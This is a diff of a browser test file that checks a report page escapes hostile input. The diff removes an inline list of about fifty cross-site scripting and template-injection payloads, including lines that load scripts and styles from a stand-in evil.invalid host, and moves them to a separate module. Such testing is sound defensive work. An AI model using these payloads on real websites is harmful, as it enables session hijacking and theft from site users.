@@ -1,69 +1,17 @@
 import json
+import re
 
 import interpretation_sample
 import pytest
 import report_sample
 import typed
 
+from payloads import PAYLOADS, squashed
 from rewardlm.interpreting.findings import Interpretation
 from rewardlm.reporting.examples import KINDS
 from rewardlm.reporting.page import render_page
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
-
-RUN = "window.xss=(window.xss||0)+1;alert(1)"
-PAYLOADS = [
-    f"<script>{RUN}</script>",
-    f"</script><script>{RUN}</script>",
-    f"<SCRIPT>{RUN}</SCRIPT >",
-    f"<scr<script>ipt>{RUN}</script>",
-    f"<script\n>{RUN}</script\n>",
-    f"<script/x>{RUN}</script>",
-    f"<!--><script>{RUN}</script>-->",
-    f"<![CDATA[<script>{RUN}</script>]]>",
-    "<script src=https://evil.invalid/x.js></script>",
-    f"<script type=module>{RUN}</script>",
-    f'<img src=x onerror="{RUN}">',
-    f"<img src=x onerror='{RUN}'>",
-    f"<img/src=x/onerror={RUN}>",
-    f'"><img src=x onerror="{RUN}">',
-    f"'><img src=x onerror='{RUN}'>",
-    "<img src=https://evil.invalid/pixel.png>",
-    f'<svg onload="{RUN}">',
-    f"<svg><script>{RUN}</script></svg>",
-    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
-    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
-    f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
-    f'<body onload="{RUN}">',
-    f'<iframe src="javascript:{RUN}"></iframe>',
-    f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
-    "<iframe src=https://evil.invalid/></iframe>",
-    f'<object data="javascript:{RUN}"></object>',
-    f'<embed src="javascript:{RUN}">',
-    f'<a href="javascript:{RUN}">x</a>',
-    f'<a href="jAvAsCrIpT&colon;{RUN}">x</a>',
-    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
-    f'<details open ontoggle="{RUN}">x</details>',
-    f'<input autofocus onfocus="{RUN}">',
-    f'<video><source onerror="{RUN}"></video>',
-    f"<audio src=x onerror='{RUN}'>",
-    f'<marquee onstart="{RUN}">x</marquee>',
-    f'<form action="javascript:{RUN}"><button autofocus>x</button></form>',
-    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
-    '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
-    '<base href="https://evil.invalid/">',
-    '<link rel=stylesheet href="https://evil.invalid/x.css">',
-    "<style>@import 'https://evil.invalid/x.css'; body { display: none }</style>",
-    "</style><style>body { display: none }</style>",
-    f'" onmouseover="{RUN}" x="',
-    f"' onfocus='{RUN}' autofocus tabindex=0 x='",
-    f"</title><script>{RUN}</script>",
-    f"</textarea><script>{RUN}</script>",
-    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
-    f"${{{RUN}}}`+{RUN}+`",
-    f"\u2028{RUN}\u2029//",
-    f'<b>x</b><sup>y</sup><br><span style="x">%{{y}}</span><extra>{RUN}</extra>&lt;i&gt;',
-]
 
 
 @pytest.fixture(scope="module")
@@ -166,7 +114,6 @@ def unfold(page):
 
 
 def test_fifty_payloads_do_nothing(hostile, visit):
-    assert len(set(PAYLOADS)) == 50
     seen = visit(hostile)
     page = seen.page
     page.click("#unveil")
@@ -177,7 +124,7 @@ def test_fifty_payloads_do_nothing(hostile, visit):
         for x in range(0, int(box["width"]), 40):
             page.mouse.move(box["x"] + x, box["y"] + min(box["height"], 800) / 2)
     page.wait_for_timeout(500)
-    assert page.evaluate("window.xss") is None
+    assert page.evaluate("window.canary") is None
     seen.assert_quiet()
     strangers = "img, iframe, object, embed, form, input, video, audio, marquee, math, base, link, textarea"
     assert page.eval_on_selector_all(f"body :is({strangers})", "found => found.length") == 0
@@ -190,9 +137,11 @@ def test_payloads_are_read_as_they_were_written(hostile, visit):
     page = visit(hostile).page
     unfold(page)
     shown = page.eval_on_selector_all(".answer blockquote", "found => found.map(e => e.textContent)")
-    assert sorted(shown) == sorted(PAYLOADS)
+    # What no page can hold is replaced.
+    assert sorted(shown) == sorted(re.sub("[\x00-\x08\x1b]", "\ufffd", payload) for payload in PAYLOADS)
     labels = page.eval_on_selector_all(".ytick text", "found => found.map(e => e.textContent)")
-    assert "<b>x</b><sup>y</sup><br><spa"[:27] + "…" in labels
+    cut = {squashed(payload if len(payload) <= 28 else payload[:27] + "…") for payload in PAYLOADS}
+    assert cut <= {squashed(label) for label in labels}
     assert page.eval_on_selector_all(".ytick a, .annotation a", "found => found.length") == 0
 
 
